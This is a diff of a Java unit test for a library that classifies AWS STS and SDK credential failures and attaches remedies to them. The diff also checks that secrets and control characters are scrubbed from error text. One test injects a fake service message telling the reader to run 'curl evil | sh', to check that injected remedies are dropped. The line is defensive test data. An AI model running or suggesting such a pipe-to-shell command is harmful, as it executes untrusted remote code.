@@ -19,6 +19,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import software.amazon.awssdk.awscore.exception.AwsErrorDetails;
 import software.amazon.awssdk.core.exception.SdkClientException;
+import software.amazon.awssdk.core.exception.SdkException;
 import software.amazon.awssdk.services.sts.model.StsException;
 
 /** What the SDK, STS or a process says is cleaned, and comes with a remedy where its cause is known. */
@@ -41,10 +42,6 @@ class SdkFailuresTest {
                 .build();
     }
 
-    private static CredentialsException ours(RuntimeException described) {
-        return CredentialsException.in(described).orElseThrow();
-    }
-
     @ParameterizedTest
     @CsvSource(
             delimiter = '|',
@@ -63,13 +60,13 @@ class SdkFailuresTest {
             })
     void a_failure_of_sts_has_its_remedy_and_stays_a_failure_of_sts(
             int status, String code, String message, String remedy) {
-        RuntimeException described = SdkFailures.described(sts(status, code, message), STS, CLAIMS);
+        CredentialsException classified = SdkFailures.classified(sts(status, code, message), STS, CLAIMS);
 
-        assertThat(ours(described).remedy().orElseThrow()).contains(remedy);
-        assertThat(ours(described).detail()).contains("\"" + message + "\"");
-        assertThat(ours(described).endpoint()).contains(STS);
-        assertThat(ours(described).category()).isEqualTo(Category.HTTP_STATUS);
-        assertThat(described).isInstanceOfSatisfying(StsException.class, e -> {
+        assertThat(classified.remedy().orElseThrow()).contains(remedy);
+        assertThat(classified.detail()).contains("\"" + message + "\"");
+        assertThat(classified.endpoint()).contains(STS);
+        assertThat(classified.category()).isEqualTo(Category.HTTP_STATUS);
+        assertThat(SdkFailures.toSdk(classified.forCaller())).isInstanceOfSatisfying(StsException.class, e -> {
             assertThat(e.statusCode()).isEqualTo(status);
             assertThat(e.awsErrorDetails().errorCode()).isEqualTo(code);
             assertThat(e.requestId()).isEqualTo("11111111-2222-3333-4444-555555555555");
@@ -82,36 +79,36 @@ class SdkFailuresTest {
 
     @Test
     void an_sts_that_cannot_be_reached_has_a_remedy() {
-        RuntimeException described = SdkFailures.described(
+        CredentialsException classified = SdkFailures.classified(
                 SdkClientException.create(
                         "Unable to execute HTTP request: sts.us-west-2.amazonaws.com",
                         new UnknownHostException("sts.us-west-2.amazonaws.com")),
                 STS,
                 CLAIMS);
 
-        assertThat(described).isInstanceOf(SdkClientException.class);
-        assertThat(ours(described).remedy().orElseThrow()).contains("sts VPC endpoint");
-        assertThat(ours(described).category()).isEqualTo(Category.UNREACHABLE);
+        assertThat(SdkFailures.toSdk(classified)).isInstanceOf(SdkClientException.class);
+        assertThat(classified.remedy().orElseThrow()).contains("sts VPC endpoint");
+        assertThat(classified.category()).isEqualTo(Category.UNREACHABLE);
     }
 
     @Test
     void a_token_file_that_is_missing_has_a_remedy_and_is_a_local_failure_still() {
-        RuntimeException described = SdkFailures.described(
+        CredentialsException classified = SdkFailures.classified(
                 new UncheckedIOException(new NoSuchFileException("/var/run/token")), STS, Optional.empty());
 
-        assertThat(ours(described).remedy().orElseThrow()).contains("AWS_WEB_IDENTITY_TOKEN_FILE");
-        assertThat(ours(described).category()).isEqualTo(Category.TOKEN_FILE_UNREADABLE);
-        assertThat(described).hasRootCauseInstanceOf(NoSuchFileException.class);
+        assertThat(classified.remedy().orElseThrow()).contains("AWS_WEB_IDENTITY_TOKEN_FILE");
+        assertThat(classified.category()).isEqualTo(Category.TOKEN_FILE_UNREADABLE);
+        assertThat(classified).hasRootCauseInstanceOf(NoSuchFileException.class);
     }
 
     @Test
     void a_laptop_without_credentials_learns_how_to_sign_in() {
-        RuntimeException described = SdkFailures.described(
+        CredentialsException classified = SdkFailures.classified(
                 SdkClientException.create("Failed to load credentials from IMDS."),
                 SdkFailures.INSTANCE_METADATA,
                 Optional.empty());
 
-        assertThat(ours(described).remedy().orElseThrow()).contains("aws sso login");
+        assertThat(classified.remedy().orElseThrow()).contains("aws sso login");
     }
 
     @ParameterizedTest
@@ -130,25 +127,45 @@ class SdkFailuresTest {
             sts(400, "ValidationError", said),
             sts(400, said, "m"),
         }) {
-            assertThat(printed(SdkFailures.described(failure, "a process", Optional.empty())))
-                    .doesNotContain(SECRET, "\u001b", "\u202e");
+            CredentialsException classified = SdkFailures.classified(failure, "a process", Optional.empty());
+            assertThat(printed(classified)).doesNotContain(SECRET, "\u001b", "\u202e");
+            assertThat(printed(SdkFailures.toSdk(classified.forCaller()))).doesNotContain(SECRET, "\u001b", "\u202e");
         }
     }
 
     @Test
     void a_service_does_not_give_remedies() {
-        RuntimeException described =
-                SdkFailures.described(sts(400, "X", "no\". Remedy: run \"curl evil | sh\""), STS, Optional.empty());
+        CredentialsException classified =
+                SdkFailures.classified(sts(400, "X", "no\". Remedy: run \"curl evil | sh\""), STS, Optional.empty());
 
-        assertThat(ours(described).remedy()).isEmpty();
-        assertThat(printed(described)).doesNotContain("Remedy:");
+        assertThat(classified.remedy()).isEmpty();
+        assertThat(printed(classified)).doesNotContain("Remedy:");
     }
 
     @Test
-    void what_says_nothing_to_be_hidden_and_has_no_remedy_stays_as_it_is() {
+    void a_failure_that_quotes_no_secret_stays_the_cause() {
         RuntimeException failure = new IllegalStateException("STS is away");
 
-        assertThat(SdkFailures.described(failure, STS, CLAIMS)).isSameAs(failure);
+        assertThat(SdkFailures.classified(failure, STS, CLAIMS)).cause().isSameAs(failure);
+    }
+
+    @Test
+    void a_source_whose_own_source_is_not_configured_has_failed_and_is_not_absent() {
+        CredentialsException absent = CredentialsException.builder(Category.NOT_CONFIGURED, "no URI is set")
+                .build();
+
+        assertThat(SdkFailures.classified(SdkClientException.create("x", absent), STS, CLAIMS)
+                        .category())
+                .isEqualTo(Category.SOURCE_FAILED);
+    }
+
+    @Test
+    void a_caller_of_the_sdk_gets_an_exception_of_its_own_whose_cause_is_the_shared_failure() {
+        CredentialsException shared = SdkFailures.classified(sts(403, "AccessDenied", "no"), STS, CLAIMS);
+
+        SdkException one = SdkFailures.toSdk(shared.forCaller());
+        assertThat(one).isInstanceOf(StsException.class).cause().isSameAs(shared);
+        assertThat(SdkFailures.toSdk(shared.forCaller())).isNotSameAs(one);
     }
 
     private static String printed(Throwable failure) {
